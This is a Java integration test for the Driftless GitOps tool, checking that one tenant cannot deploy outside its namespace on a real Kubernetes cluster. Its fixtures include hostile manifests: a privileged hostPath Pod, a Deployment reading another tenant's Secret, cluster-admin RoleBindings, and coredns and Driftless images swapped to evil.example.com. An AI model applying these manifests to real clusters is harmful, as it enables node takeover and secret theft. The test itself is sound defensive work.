package io.driftless.realcluster;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import io.driftless.app.DriftlessService;
import io.driftless.config.FleetLoader;
import io.driftless.status.SyncState;
import io.driftless.status.TargetStatus;
import io.driftless.testing.GitHttpServer;
import io.driftless.testing.RealCluster;
import io.fabric8.kubernetes.api.model.ConfigMapBuilder;
import io.fabric8.kubernetes.api.model.NamespaceBuilder;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.api.model.ServiceAccountBuilder;
import io.fabric8.kubernetes.api.model.apps.Deployment;
import io.fabric8.kubernetes.api.model.apps.DeploymentBuilder;
import io.fabric8.kubernetes.api.model.rbac.RoleBindingBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;

/**
 * Two tenants side by side on a real API server, Driftless running with a token bound only to
 * {@code deploy/base/}'s ClusterRole (its own records and impersonation) and each tenant's requests made as its
 * ServiceAccount. What a committer to team-a's values reproduced as an attack (a privileged Pod in kube-system, a
 * Deployment in team-b mounting team-b's Secret, a RoleBinding in kube-system, patches of coredns and of Driftless's
 * own Secret and Deployment, and the same through a chart's {@code namespaceOverride}) is refused before any write;
 * what the policy lets through but RBAC does not (a RoleBinding granting cluster-admin in its own namespace) is
 * refused by the API server, naming the identity; an existing object nobody gave Driftless is not taken over; and
 * team-a's and team-b's own releases sync.
 */
@RealCluster
class RealTenancyIT {

    @TempDir
    Path tmp;

    private static final String ATTACK = """
            apiVersion: v1
            kind: Pod
            metadata: {name: root, namespace: kube-system}
            spec:
              serviceAccountName: cluster-admin-sa
              containers: [{name: c, image: busybox, securityContext: {privileged: true},
                            volumeMounts: [{name: host, mountPath: /host}]}]
              volumes: [{name: host, hostPath: {path: /}}]
            ---
            apiVersion: apps/v1
            kind: Deployment
            metadata: {name: steal-db, namespace: team-b}
            spec:
              selector: {matchLabels: {app: steal}}
              template:
                metadata: {labels: {app: steal}}
                spec:
                  containers: [{name: c, image: busybox, envFrom: [{secretRef: {name: db}}]}]
            ---
            apiVersion: rbac.authorization.k8s.io/v1
            kind: RoleBinding
            metadata: {name: own-kube-system, namespace: kube-system}
            roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: driftless}
            subjects: [{kind: ServiceAccount, name: default, namespace: team-a}]
            ---
            apiVersion: apps/v1
            kind: Deployment
            metadata: {name: coredns, namespace: kube-system}
            spec:
              selector: {matchLabels: {k8s-app: kube-dns}}
              template:
                metadata: {labels: {k8s-app: kube-dns}}
                spec:
                  containers: [{name: coredns, image: evil.example.com/coredns}]
            ---
            apiVersion: v1
            kind: Secret
            metadata: {name: driftless-secrets, namespace: driftless}
            stringData: {api-auth: "attacker:chosen"}
            ---
            apiVersion: apps/v1
            kind: Deployment
            metadata: {name: driftless, namespace: driftless}
            spec:
              selector: {matchLabels: {app.kubernetes.io/name: driftless}}
              template:
                metadata: {labels: {app.kubernetes.io/name: driftless}}
                spec:
                  containers: [{name: driftless, image: evil.example.com/driftless, args: [--anonymous-read]}]
            """;

    private static final String EXTRAS = """
            apiVersion: batch/v1
            kind: CronJob
            metadata: {name: nightly}
            spec:
              schedule: "0 3 * * *"
              jobTemplate:
                spec:
                  template:
                    spec:
                      restartPolicy: Never
                      containers: [{name: c, image: busybox}]
            ---
            apiVersion: v1
            kind: ResourceQuota
            metadata: {name: pods}
            spec: {hard: {pods: "20"}}
            """;

    private static final String ESCALATE = """
            apiVersion: rbac.authorization.k8s.io/v1
            kind: RoleBinding
            metadata: {name: escalate, namespace: team-a}
            roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
            subjects: [{kind: ServiceAccount, name: default, namespace: team-a}]
            """;

    private static final String ROOT_POD = """
            apiVersion: v1
            kind: Pod
            metadata: {name: node-root}
            spec:
              containers: [{name: c, image: busybox, securityContext: {privileged: true},
                            volumeMounts: [{name: host, mountPath: /host}]}]
              volumes: [{name: host, hostPath: {path: /}}]
            """;

    private static final String APP = """
            apiVersion: v1
            kind: ConfigMap
            metadata: {name: %1$s-settings}
            data: {greeting: hello}
            ---
            apiVersion: apps/v1
            kind: Deployment
            metadata: {name: %1$s-web}
            spec:
              selector: {matchLabels: {app: %1$s-web}}
              template:
                metadata: {labels: {app: %1$s-web}}
                spec:
                  containers: [{name: web, image: nginx:1.27}]
            """;

    @Test
    void eachTenantStaysInsideItsBoundsAndTheOthersAreUntouched(RealCluster.ControlPlane plane) throws Exception {
        try (KubernetesClient admin = plane.admin(); GitHttpServer git = new GitHttpServer(tmp.resolve("git"))) {
            prepare(admin);
            try {
                sideBySide(plane, admin, git);
            } finally { // the control plane is shared with the other test classes (RealDeployIT installs deploy/)
                admin.apps().deployments().inNamespace("driftless").withName("driftless").delete();
                admin.secrets().inNamespace("driftless").withName("driftless-secrets").delete();
                admin.apps().deployments().inNamespace("kube-system").withName("coredns").delete();
                admin.namespaces().withName("team-a").delete();
                admin.namespaces().withName("team-b").delete();
            }
        }
    }

    private void sideBySide(RealCluster.ControlPlane plane, KubernetesClient admin, GitHttpServer git)
            throws Exception {
        {
            git.start(0);
            Map<String, String> files = new LinkedHashMap<>();
            files.put("apps/team-a/manifests/app.yaml", ATTACK);
            files.put("apps/team-a/prefect.yaml", "namespaceOverride: kube-system\n");
            files.put("apps/team-b/manifests/app.yaml", APP.formatted("team-b"));
            files.put("apps/team-b/taken/app.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: preexisting}\n"
                    + "data: {owner: driftless}\n");
            files.put("apps/team-b/extras/app.yaml", EXTRAS);
            git.commit("team-a tries its luck", files);
            byte[] fleet = """
                    sources: [{name: values, url: %s, pollInterval: 1h, auth: {username: %s, passwordEnv: PW}}]
                    clusters: [{name: real, kubeconfig: %s, labels: {env: prod}}]
                    tenants:
                      - name: team-a
                        sources: [{name: values, paths: ["apps/team-a/**"]}]
                        destinations: [{clusters: {matchLabels: {env: prod}}, namespaces: [team-a]}]
                        serviceAccount: {namespace: team-a, name: driftless-deployer}
                      - name: team-b
                        sources: [{name: values, paths: ["apps/team-b/**"]}]
                        destinations: [{namespaces: [team-b]}]
                        serviceAccount: {namespace: team-b, name: driftless-deployer}
                    releases:
                      - {name: team-a-app, tenant: team-a, namespace: team-a, chart: {manifests: apps/team-a/manifests},
                         source: values}
                      - {name: team-a-prefect, tenant: team-a, namespace: team-a,
                         chart: {name: prefect-server, version: 2026.8.18172642}, source: values,
                         values: [apps/team-a/prefect.yaml]}
                      - {name: team-b-app, tenant: team-b, namespace: team-b, chart: {manifests: apps/team-b/manifests},
                         source: values}
                      - {name: team-b-taken, tenant: team-b, namespace: team-b, chart: {manifests: apps/team-b/taken},
                         source: values}
                      - {name: team-b-extras, tenant: team-b, namespace: team-b,
                         chart: {manifests: apps/team-b/extras}, source: values}
                    """.formatted(git.url(), GitHttpServer.USER, plane.driftlessKubeconfig())
                    .getBytes(StandardCharsets.UTF_8);
            try (DriftlessService service = DriftlessService.start(FleetLoader.parse("fleet.yaml", fleet, tmp),
                    new DriftlessService.Settings(tmp.resolve("state"), "127.0.0.1", 0, 2,
                            Map.of("PW", GitHttpServer.PASSWORD, "DRIFTLESS_API_AUTH", "admin:the-admin")))) {
                for (String release : List.of("team-a-app", "team-a-prefect", "team-b-app", "team-b-taken",
                        "team-b-extras")) {
                    await().atMost(Duration.ofSeconds(60)).until(() -> service.board().get("real/" + release)
                            .lastSync() != null);
                }
                TargetStatus attack = service.board().get("real/team-a-app");
                assertThat(attack.syncState()).isEqualTo(SyncState.Failed);
                assertThat(attack.failure().stage()).isEqualTo(io.driftless.status.Failure.Stage.POLICY);
                assertThat(attack.history()).last().satisfies(h -> assertThat(h.result())
                        .isEqualTo(io.driftless.status.SyncResult.REFUSED));
                assertThat(attack.lastError()).startsWith("outside tenant team-a, nothing written: ").contains(
                        "Pod/kube-system/root: tenant team-a may not write to namespace kube-system of cluster real",
                        "Deployment/team-b/steal-db: tenant team-a may not write to namespace team-b",
                        "RoleBinding/kube-system/own-kube-system:", "Deployment/kube-system/coredns:",
                        "Secret/driftless/driftless-secrets:", "Deployment/driftless/driftless:");
                assertThat(service.board().get("real/team-a-prefect").lastError())
                        .as("the values-only variant: a builtin chart's namespaceOverride")
                        .startsWith("outside tenant team-a, nothing written: ")
                        .contains("/kube-system/prefect-server: tenant team-a may not write to namespace kube-system");
                assertThat(service.metrics().scrape()).contains("driftless_objects_refused_total{cluster=\"real\","
                        + "release=\"team-a-app\",rule=\"namespace\"} 6.0");
                await("the refusal recorded as an Event in the tenant's namespace").atMost(Duration.ofSeconds(20))
                        .until(() -> admin.v1().events().inNamespace("team-a").list().getItems().stream()
                                .anyMatch(e -> "SyncRefused".equals(e.getReason()) && e.getMessage()
                                        .contains("Pod/kube-system/root: tenant team-a may not write")));
                // what a branch would do is refused alike, before any read of the cluster
                HttpResponse<String> preview = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(
                        "http://127.0.0.1:" + service.httpPort() + "/api/v1/preview")).header("Authorization",
                        "Basic " + base64("admin:the-admin")).header("Content-Type", "application/json")
                        .header("X-Driftless-Request", "1").POST(HttpRequest.BodyPublishers.ofString(
                                "{\"ref\": \"main\"}")).build(), HttpResponse.BodyHandlers.ofString());
                assertThat(preview.statusCode()).as(preview.body()).isEqualTo(200);
                com.fasterxml.jackson.databind.JsonNode teamAPreview = java.util.stream.StreamSupport.stream(
                        new com.fasterxml.jackson.databind.ObjectMapper().readTree(preview.body()).path("targets")
                                .spliterator(), false).filter(t -> t.path("release").asText().equals("team-a-app"))
                        .findFirst().orElseThrow();
                assertThat(teamAPreview.path("result").asText()).isEqualTo("Refused");
                assertThat(teamAPreview.path("error").asText()).startsWith("outside tenant team-a, nothing written: ")
                        .contains("Secret/driftless/driftless-secrets:");

                assertThat(admin.pods().inNamespace("kube-system").withName("root").get()).isNull();
                assertThat(admin.apps().deployments().inNamespace("team-b").withName("steal-db").get()).isNull();
                assertThat(admin.rbac().roleBindings().inNamespace("kube-system").withName("own-kube-system").get())
                        .isNull();
                Deployment coredns = admin.apps().deployments().inNamespace("kube-system").withName("coredns").get();
                assertThat(coredns.getSpec().getTemplate().getSpec().getContainers().get(0).getImage())
                        .isEqualTo("registry.k8s.io/coredns/coredns:v1.12.0");
                assertThat(coredns.getMetadata().getLabels()).doesNotContainKey("driftless.io/target");
                assertThat(admin.secrets().inNamespace("driftless").withName("driftless-secrets").get().getData())
                        .containsEntry("api-auth", base64("admin:original"));
                assertThat(admin.apps().deployments().inNamespace("driftless").withName("driftless").get().getSpec()
                        .getTemplate().getSpec().getContainers().get(0).getImage()).isEqualTo("driftless:0.1.0");

                TargetStatus teamB = service.board().get("real/team-b-app");
                assertThat(teamB.lastError()).isNull();
                assertThat(teamB.syncState()).isEqualTo(SyncState.Synced);
                assertThat(admin.apps().deployments().inNamespace("team-b").withName("team-b-web").get()).isNotNull();
                assertThat(admin.secrets().inNamespace("team-b").withName("db").get().getData())
                        .containsEntry("password", base64("team-b-password"));
                // its object tree, watched as the tenant's account: deploy/'s tenant role lets it read ReplicaSets
                await("team-b-web's Pod in its tree").atMost(Duration.ofSeconds(60)).until(() -> {
                    com.fasterxml.jackson.databind.JsonNode objects = new com.fasterxml.jackson.databind.ObjectMapper()
                            .readTree(HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(
                                    "http://127.0.0.1:" + service.httpPort() + "/api/v1/targets/real/team-b-app/objects"))
                                    .header("Authorization", "Basic " + base64("admin:the-admin")).build(),
                                    HttpResponse.BodyHandlers.ofString()).body());
                    return objects.path("unwatched").isEmpty() && objects.path("objects").findValues("owned").stream()
                            .flatMap(o -> java.util.stream.StreamSupport.stream(o.spliterator(), false))
                            .anyMatch(rs -> rs.path("kind").asText().equals("ReplicaSet") && rs.path("children")
                                    .findValuesAsText("kind").contains("Pod"));
                });

                assertThat(service.board().get("real/team-b-taken").lastError())
                        .as("an object Driftless did not create is not taken over")
                        .startsWith("objects Driftless did not create exist in the cluster; nothing written (set "
                                + "adopt: true on the release to take them over): ConfigMap/team-b/preexisting: exists "
                                + "and Driftless did not create it (app.kubernetes.io/managed-by=kubectl, written by ");
                assertThat(admin.configMaps().inNamespace("team-b").withName("preexisting").get().getData())
                        .containsEntry("owner", "team-b's operator");
                // kinds the tenant's role does not grant: every one named at once, with the API server's words
                assertThat(service.board().get("real/team-b-extras").lastError()).startsWith("cluster real: HTTP 403: "
                        + "forbidden: ").contains("list CronJob.batch in team-b", "list ResourceQuota in team-b",
                        "; the API server said: ", "system:serviceaccount:team-b:driftless-deployer");
                assertThat(service.clusters().watches().covers("real", "team-b-extras"))
                        .as("its kinds' watches were refused a moment ago").isFalse();
                admin.rbac().roles().inNamespace("team-b").resource(new io.fabric8.kubernetes.api.model.rbac
                        .RoleBuilder().withNewMetadata().withName("extras").endMetadata().addNewRule()
                        .withApiGroups("batch", "").withResources("cronjobs", "resourcequotas")
                        .withVerbs("*").endRule().build()).createOr(existing -> existing.update());
                admin.rbac().roleBindings().inNamespace("team-b").resource(new RoleBindingBuilder().withNewMetadata()
                        .withName("extras").endMetadata().withNewRoleRef().withApiGroup("rbac.authorization.k8s.io")
                        .withKind("Role").withName("extras").endRoleRef().addNewSubject().withKind("ServiceAccount")
                        .withName("driftless-deployer").withNamespace("team-b").endSubject().build())
                        .createOr(existing -> existing.update());
                service.refresh("values");
                await("granted, the release syncs without a restart").atMost(Duration.ofSeconds(60)).until(() ->
                        service.board().get("real/team-b-extras").syncState() == SyncState.Synced);
                // and the kinds whose watch was refused are watched again, at a poll a minute or more after the refusal
                // (a target its watches do not cover is compared in full at each poll, which asks again)
                await("watched again without a restart").atMost(Duration.ofSeconds(100))
                        .pollInterval(Duration.ofSeconds(5)).until(() -> {
                            service.refresh("values");
                            return service.clusters().watches().covers("real", "team-b-extras");
                        });

                // inside the policy, beyond the tenant's RBAC: the API server refuses, naming who asked
                git.commit("team-a binds cluster-admin in its namespace", Map.of("apps/team-a/manifests/app.yaml",
                        ESCALATE));
                service.refresh("values");
                await().atMost(Duration.ofSeconds(60)).until(() -> service.board().get("real/team-a-app")
                        .lastError() != null && service.board().get("real/team-a-app").lastError()
                        .contains("escalate"));
                assertThat(service.board().get("real/team-a-app").failure().stage())
                        .isEqualTo(io.driftless.status.Failure.Stage.APPLY);
                assertThat(service.board().get("real/team-a-app").lastError())
                        .contains("RoleBinding/team-a/escalate", "HTTP 403",
                                "system:serviceaccount:team-a:driftless-deployer");
                assertThat(admin.rbac().roleBindings().inNamespace("team-a").withName("escalate").get()).isNull();

                // inside the policy and the tenant's RBAC, a privileged hostPath Pod in team-a's own namespace: the
                // namespace's Pod Security level refuses it
                git.commit("team-a goes for the node", Map.of("apps/team-a/manifests/app.yaml", ROOT_POD));
                service.refresh("values");
                await().atMost(Duration.ofSeconds(60)).until(() -> service.board().get("real/team-a-app")
                        .lastError() != null && service.board().get("real/team-a-app").lastError()
                        .contains("PodSecurity"));
                assertThat(service.board().get("real/team-a-app").lastError()).contains("Pod/team-a/node-root",
                        "HTTP 403", "violates PodSecurity \"baseline:latest\"", "privileged", "hostPath");
                assertThat(admin.pods().inNamespace("team-a").withName("node-root").get()).isNull();

                // team-a's own release
                git.commit("team-a's app", Map.of("apps/team-a/manifests/app.yaml", APP.formatted("team-a")));
                service.refresh("values");
                await().atMost(Duration.ofSeconds(60)).until(() -> service.board().get("real/team-a-app")
                        .syncState() == SyncState.Synced);
                assertThat(admin.apps().deployments().inNamespace("team-a").withName("team-a-web").get()
                        .getMetadata().getLabels()).containsEntry("driftless.io/target", "team-a-app");
                assertThat(admin.configMaps().inNamespace("team-a").withName("driftless-inventory-team-a-app").get())
                        .as("its inventory, written as the tenant (Driftless may write no ConfigMap there)").isNotNull();
            }
        }
    }

    /**
     * As the platform team would: Driftless's role from deploy/base (and nothing more), two tenant namespaces with
     * their ServiceAccount bound to the tenant role, team-b's database password, and what team-a goes after.
     */
    private static void prepare(KubernetesClient admin) throws Exception {
        RealRbacIT.apply(admin, "base/clusterrole.yaml");
        RealRbacIT.apply(admin, "base/clusterrolebinding.yaml");
        RealRbacIT.apply(admin, "base/tenant-clusterrole.yaml");
        admin.rbac().clusterRoleBindings().withName("driftless-single-team").delete();
        for (String namespace : List.of("team-a", "team-b", "driftless")) {
            // a tenant's namespace enforces the baseline Pod Security Standard, as deploy/ labels it
            admin.namespaces().resource(new NamespaceBuilder().withNewMetadata().withName(namespace)
                    .addToLabels(namespace.startsWith("team-") ? Map.of("pod-security.kubernetes.io/enforce",
                            "baseline") : Map.of()).endMetadata().build()).createOr(existing -> existing.update());
        }
        for (String tenant : List.of("team-a", "team-b")) {
            admin.serviceAccounts().inNamespace(tenant).resource(new ServiceAccountBuilder().withNewMetadata()
                    .withName("driftless-deployer").endMetadata().build()).createOr(existing -> existing.update());
            admin.rbac().roleBindings().inNamespace(tenant).resource(new RoleBindingBuilder().withNewMetadata()
                    .withName("driftless-deployer").endMetadata().withNewRoleRef()
                    .withApiGroup("rbac.authorization.k8s.io").withKind("ClusterRole").withName("driftless-tenant")
                    .endRoleRef().addNewSubject().withKind("ServiceAccount").withName("driftless-deployer")
                    .withNamespace(tenant).endSubject().build()).createOr(existing -> existing.update());
        }
        admin.secrets().inNamespace("team-b").resource(new SecretBuilder().withNewMetadata().withName("db")
                .endMetadata().addToStringData("password", "team-b-password").build())
                .createOr(existing -> existing.update());
        admin.secrets().inNamespace("driftless").resource(new SecretBuilder().withNewMetadata()
                .withName("driftless-secrets").endMetadata().addToStringData("api-auth", "admin:original").build())
                .createOr(existing -> existing.update());
        admin.configMaps().inNamespace("team-b").resource(new ConfigMapBuilder().withNewMetadata()
                .withName("preexisting").addToLabels("app.kubernetes.io/managed-by", "kubectl").endMetadata()
                .addToData("owner", "team-b's operator").build()).createOr(existing -> existing.update());
        for (String[] d : new String[][] {{"kube-system", "coredns", "k8s-app", "kube-dns",
                "registry.k8s.io/coredns/coredns:v1.12.0"}, {"driftless", "driftless", "app.kubernetes.io/name",
                "driftless", "driftless:0.1.0"}}) {
            admin.apps().deployments().inNamespace(d[0]).resource(new DeploymentBuilder().withNewMetadata()
                    .withName(d[1]).endMetadata().withNewSpec().withNewSelector().addToMatchLabels(d[2], d[3])
                    .endSelector().withNewTemplate().withNewMetadata().addToLabels(d[2], d[3]).endMetadata()
                    .withNewSpec().addNewContainer().withName(d[1]).withImage(d[4]).endContainer().endSpec()
                    .endTemplate().endSpec().build()).createOr(existing -> existing.update());
        }
    }

    private static String base64(String text) {
        return java.util.Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }
}
